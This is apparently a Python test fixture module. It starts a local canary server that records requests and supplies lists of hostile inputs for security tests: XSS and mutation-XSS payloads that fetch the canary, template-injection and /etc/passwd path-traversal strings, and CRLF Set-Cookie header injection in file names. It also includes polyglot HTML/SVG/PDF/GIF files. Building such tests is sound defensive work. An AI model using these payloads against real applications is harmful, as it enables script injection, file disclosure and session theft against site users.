"""Hostile names, texts and files that send requests to a counting server."""

from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

from support.fakes import http_servers


@dataclass
class CanaryServer:
    """A server of another origin that records `requested_paths`."""

    url: str = ""
    requested_paths: list[str] = field(default_factory=list)

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] == "lifespan":
            while (await receive())["type"] != "lifespan.shutdown":
                await send({"type": "lifespan.startup.complete"})
            await send({"type": "lifespan.shutdown.complete"})
            return
        self.requested_paths.append(scope["path"])
        headers = [(b"content-type", b"text/javascript"), (b"access-control-allow-origin", b"*")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": b"document.title = 'ran'"})


@asynccontextmanager
async def serve_canary() -> AsyncGenerator[CanaryServer]:
    """Run the server."""
    listening = CanaryServer()
    async with http_servers.serve_app(listening) as url:
        listening.url = url
        yield listening


def list_hostile_texts(canary_url: str) -> list[str]:
    """Return texts that would act as markup; each fits into a title.

    Args:
        canary_url: The address of the canary.
    """
    call = f"fetch('{canary_url}/ran')"
    return [
        f"<script>{call}</script>",
        f"<script src={canary_url}/script.js></script>",
        f"</title></textarea></pre></script><script>{call}</script>",
        f'"><img src=x onerror="{call}">',
        f"'><img src={canary_url}/pixel.png>",
        f'" autofocus onfocus="{call}" x="',
        f"<svg onload=\"{call}\"><a xlink:href='javascript:{call}'>",
        f"<svg><style><img src=x onerror={call}></style>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={call}>'>",
        f'<noscript><p title="</noscript><img src=x onerror={call}>">',
        f"<details open ontoggle={call}>",
        f'<iframe srcdoc="<script>{call}</script>"></iframe>',
        (
            f"<iframe src={canary_url}/frame></iframe><object data={canary_url}/object></object>"
            f"<embed src={canary_url}/embed>"
        ),
        f"<meta http-equiv=refresh content='0;url={canary_url}/away'>",
        f"<base href={canary_url}/base/>",
        f"<link rel=stylesheet href={canary_url}/style.css><style>@import '{canary_url}/import.css';</style>",
        f"<form action={canary_url}/form id=f><input autofocus onfocus=f.submit()></form>",
        f"<video poster={canary_url}/poster><source src={canary_url}/video onerror={call}></video>",
        f"<div style='background:url({canary_url}/background)'>",
        f"javascript:{call}//",
        f"data:text/html,<script>{call}</script>",
        f"{{{{ ''.__class__.__mro__ }}}}{{% include '/etc/passwd' %}}${{{call}}}#{{{call}}}",
        f"%3Cscript%3E{call}%3C/script%3E&lt;script&gt;{call}&lt;/script&gt;",
        f"\u202e<script>{call}</script>\u2066\u200b\ufeff",
        f"+ADw-script+AD4-{call}+ADw-/script+AD4-",
        f"<scr\0ipt>{call}</scr\0ipt>",
        f"[link](javascript:{call}) ![picture]({canary_url}/markdown.png) <{canary_url}/auto>",
    ]


def list_hostile_names() -> list[str]:
    """Return file names that attack paths, headers, types or lists."""
    return [
        "../../../../etc/passwd",
        "..\\..\\windows\\system.ini",
        "/absolute/path.txt",
        "line\r\nSet-Cookie: dashboard=stolen\r\n\r\n<script>.html",
        "report\u202efdp.exe",
        'quote";filename="other.html',
        "per%22cent%0d%0a.html",
        "semi;colon=1, comma.txt",
        "CON",
        ".htaccess",
        "",
        "   ",
        "...",
        "a" * 3_000 + ".html",
        "é" * 200 + ".txt",
        "日本語のファイル.csv",
        "😀\u200d😀.png",
        "nul\0byte.png",
        "<img src=x onerror=alert(1)>.html",
        "\u2066\u2069\u200e\u200f",
    ]


def list_hostile_files(canary_url: str) -> list[tuple[str, str, bytes]]:
    """Return files (name, MIME type, bytes) that a browser might run.

    Args:
        canary_url: The address of the canary.
    """
    script = f"<script>fetch('{canary_url}/file')</script>"
    page = f"<!doctype html><title>file</title>{script}<img src={canary_url}/image>".encode()
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}<image href='{canary_url}/svg'/></svg>".encode()
    xhtml = f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{script}</body></html>".encode()
    sheet = (
        f"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        f"<xsl:template match='/'><html>{script}</html></xsl:template></xsl:stylesheet>"
    )
    styled = f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{canary_url}/sheet.xsl'?>{sheet}".encode()
    mixed = b"--part\r\nContent-Type: text/html\r\n\r\n" + page + b"\r\n--part--\r\n"
    mail = (
        b"MIME-Version: 1.0\r\nFrom: a@example.org\r\nMessage-ID: <1@example.org>\r\n"
        b"Content-Type: multipart/related; boundary=part\r\n\r\n" + mixed
    )
    return [
        ("page.html", "text/html", page),
        (
            "page.html",
            "text/html; charset=utf-7",
            f"+ADw-script+AD4-fetch('{canary_url}/utf7')+ADw-/script+AD4-".encode(),
        ),
        ("picture.svg", "image/svg+xml", svg),
        ("page.xhtml", "application/xhtml+xml", xhtml),
        ("styled.xml", "text/xml", styled),
        ("styled.xml", "application/xml", styled),
        ("sheet.xsl", "application/xslt+xml", sheet.encode()),
        ("mixed", "multipart/x-mixed-replace; boundary=part", mixed),
        ("page.mhtml", "multipart/related", mail),
        ("mail.eml", "message/rfc822", mail),
        ("photo.png", "image/png", page),
        ("photo.jpg", "image/jpeg", svg),
        ("notes.txt", "text/plain", page),
        ("paper.pdf", "application/pdf", page),
        (
            "paper.pdf",
            "application/pdf",
            b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(" + canary_url.encode() + b"/pdf)>>>>endobj",
        ),
        ("both.gif", "image/gif", b"GIF89a/*" + page + b"*/=1;fetch('" + canary_url.encode() + b"/gif')"),
        ("code.js", "text/javascript", f"fetch('{canary_url}/js')".encode()),
        ("style.css", "text/css", f"@import '{canary_url}/css';".encode()),
        ("cache.manifest", "text/cache-manifest", b"CACHE MANIFEST\n/\n"),
        ("no type", "", page),
        ("odd type", "text/html\r\nX-Injected: yes", page),
        ("many types", "text/plain, text/html", page),
        ("long type", "text/" + "x" * 200, page),
    ]
